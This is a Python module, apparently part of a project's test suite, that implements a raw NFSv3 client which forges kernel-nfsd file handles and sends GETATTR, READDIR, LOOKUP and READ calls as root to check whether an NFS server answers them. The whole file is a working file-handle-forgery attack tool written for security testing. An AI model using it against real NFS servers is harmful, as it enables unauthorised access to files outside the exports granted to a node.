"""A small NFSv3 client over ONC RPC/TCP that sends file handles it made up itself.

The attacks of issue 11 item 4: a root user on a node forges kernel-nfsd file handles (the
export's `fsid=` number and an inode/generation pair) and asks GETATTR, READDIR and LOOKUP
with them (and READ). Run as a script inside a namespace holding a node's address:

    python -m oneroot.testing.nfs3raw SERVER HANDLES.json    # prints {name: [proc, status]} as JSON

HANDLES.json maps a name to a hex handle. A status of 0 (NFS3_OK) means the server answered.
A handle may be followed by names (`HEX/etc/motd`): the handle the server gives for that path
by LOOKUPs from it (a real one, not forged) is used instead. `@PATH` is the root handle MOUNT
gives for the export PATH (an export without `fsid=`: knfsd derives its fsid from the
filesystem's UUID and the export's inode); `@PATH#TYPE:HEX` that handle with fileid type TYPE
and fileid HEX instead (a forged handle with that export's fsid); `@PATH#/etc/motd` by
LOOKUPs from it. With `--resolve` the script prints those handles ({name: hex}, or the
failing call's status) and sends nothing else.
The client binds a privileged source port (knfsd's default `secure` export option).
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys

from oneroot.testing.oncrpc import call_message, opaque, read_record, send_record

NFS_PROGRAM, NFS_V3 = 100003, 3
PMAP_PROGRAM, PMAP_V2, PMAP_GETPORT, IPPROTO_TCP = 100000, 2, 3, 6
MOUNT_PROGRAM, MOUNT_V3, MOUNTPROC3_MNT = 100005, 3, 1
GETATTR, LOOKUP, READ, READDIR = 1, 3, 6, 16
# knfsd's file handle, version 1: version, auth type, fsid type, fileid type, fsid, fileid.
FSID_NUM = 1  # a 4-byte `fsid=` number
FILEID_ROOT = 0  # the export's root: no fileid
FILEID_INO32_GEN = 1  # ext4's handle: inode, generation
FILEID_INO32_GEN_PARENT = 2  # the same and its directory's (`subtree_check` makes these)


def knfsd_handle(fsid: int, ino: int | None = None, generation: int = 0) -> bytes:
    if ino is None:
        return knfsd_raw_handle(fsid, FILEID_ROOT, b"")
    return knfsd_raw_handle(fsid, FILEID_INO32_GEN, struct.pack("<II", ino, generation))


def knfsd_raw_handle(fsid: int, fileid_type: int, fileid: bytes) -> bytes:
    """Any filesystem's handle (`fileid_type`, `fileid` as name_to_handle_at gives them, e.g.
    overlayfs's 0xf8) under the export with `fsid=`."""
    return bytes([1, 0, FSID_NUM, fileid_type]) + struct.pack("<I", fsid) + fileid


class Rpc:
    """One ONC RPC connection over TCP from a privileged port, AUTH_SYS as root."""

    def __init__(self, server: str, port: int = 2049, *, source: str = "") -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        for _ in range(50):
            try:
                self.sock.bind((source, random.randint(600, 1023)))
                break
            except OSError:
                continue
        self.sock.settimeout(15)
        self.sock.connect((server, port))
        self.server = server
        self.xid = random.randint(1, 1 << 30)

    def call(self, program: int, version: int, proc: int, args: bytes) -> int | bytes:
        """The reply's results (bytes), or a negative number when the RPC layer refused:
        -1000 - reject_stat (MSG_DENIED), -2000 - accept_stat (e.g. GARBAGE_ARGS)."""
        self.xid += 1
        send_record(self.sock, call_message(self.xid, program, version, proc, args,
                                            machine=b"forger"))
        reply = read_record(self.sock)
        xid, mtype, stat = (int(v) for v in struct.unpack(">III", reply[:12]))
        if xid != self.xid or mtype != 1:
            raise RuntimeError(f"unexpected reply xid={xid} type={mtype}")
        if stat != 0:
            return -1000 - stat
        verf_len = int(struct.unpack(">I", reply[16:20])[0])
        at = 20 + verf_len + (-verf_len % 4)
        accept = int(struct.unpack(">I", reply[at:at + 4])[0])
        if accept != 0:
            return -2000 - accept
        return reply[at + 4:]


class Nfs3(Rpc):
    """NFSv3 procedures; each returns the NFS status word (0 = NFS3_OK: answered)."""

    def nfs(self, proc: int, args: bytes) -> int:
        reply = self.call(NFS_PROGRAM, NFS_V3, proc, args)
        return reply if isinstance(reply, int) else int(struct.unpack(">I", reply[:4])[0])

    def getattr(self, fh: bytes) -> int:
        return self.nfs(GETATTR, opaque(fh))

    def lookup(self, fh: bytes, name: str) -> int:
        return self.nfs(LOOKUP, opaque(fh) + opaque(name.encode()))

    def lookup_handle(self, fh: bytes, name: str) -> bytes | int:
        """The handle the server gives for `name` in directory `fh`, or the NFS status."""
        reply = self.call(NFS_PROGRAM, NFS_V3, LOOKUP, opaque(fh) + opaque(name.encode()))
        if isinstance(reply, int):
            return reply
        status, length = (int(v) for v in struct.unpack(">II", reply[:8]))
        return reply[8:8 + length] if status == 0 else status

    def walk(self, spec: str) -> bytes | int:
        """`HEX/name/…`: the handle of that path below handle HEX, or a LOOKUP's status;
        `@PATH[#TYPE:HEX | #/name/…]`: from the export's root handle (`mount_root`)."""
        if spec.startswith("@"):
            path, _, rest = spec[1:].partition("#")
            root = mount_root(self.server, path)
            if isinstance(root, int) or not rest:
                return root
            if rest.startswith("/"):
                return self.walk(root.hex() + rest)
            kind, fileid = rest.split(":")
            return root[:3] + bytes([int(kind)]) + root[4:] + bytes.fromhex(fileid)
        first, *names = spec.split("/")
        fh: bytes | int = bytes.fromhex(first)
        for name in names:
            if isinstance(fh, int):
                break
            fh = self.lookup_handle(fh, name)
        return fh

    def readdir(self, fh: bytes) -> int:
        return self.nfs(READDIR, opaque(fh) + struct.pack(">QQI", 0, 0, 4096))

    def read(self, fh: bytes) -> int:
        return self.nfs(READ, opaque(fh) + struct.pack(">QI", 0, 4096))


def mount_root(server: str, path: str) -> bytes | int:
    """The root handle of export `path` by MOUNT v3 (its port from rpcbind), or the MNT
    status (13: EACCES, not exported to this address)."""
    pmap = Rpc(server, 111)
    reply = pmap.call(PMAP_PROGRAM, PMAP_V2, PMAP_GETPORT,
                      struct.pack(">IIII", MOUNT_PROGRAM, MOUNT_V3, IPPROTO_TCP, 0))
    pmap.sock.close()
    if isinstance(reply, int):
        return reply
    mountd = Rpc(server, int(struct.unpack(">I", reply[:4])[0]))
    reply = mountd.call(MOUNT_PROGRAM, MOUNT_V3, MOUNTPROC3_MNT, opaque(path.encode()))
    mountd.sock.close()
    if isinstance(reply, int):
        return reply
    status, length = (int(v) for v in struct.unpack(">II", reply[:8]))
    return reply[8:8 + length] if status == 0 else status


def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
    """Every procedure with every handle; the NFS status of each answer."""
    client = Nfs3(server)
    results = {}
    for name, spec in handles.items():
        fh = client.walk(spec)
        if isinstance(fh, int):
            results[name] = dict.fromkeys(("getattr", "readdir", "lookup", "read"), fh)
            continue
        results[name] = {"getattr": client.getattr(fh), "readdir": client.readdir(fh),
                         "lookup": client.lookup(fh, "etc"), "read": client.read(fh)}
    return results


def resolve(server: str, handles: dict[str, str]) -> dict[str, str | int]:
    """The real handle of each `HEX/name/…` (hex), or the failing LOOKUP's status."""
    client = Nfs3(server)
    return {name: fh.hex() if isinstance(fh, bytes) else fh
            for name, fh in ((n, client.walk(spec)) for n, spec in handles.items())}


if __name__ == "__main__":
    args = [a for a in sys.argv[1:] if a != "--resolve"]
    with open(args[1]) as fh:
        wanted = json.load(fh)
    run = resolve if "--resolve" in sys.argv else attack
    print(json.dumps(run(args[0], wanted)))
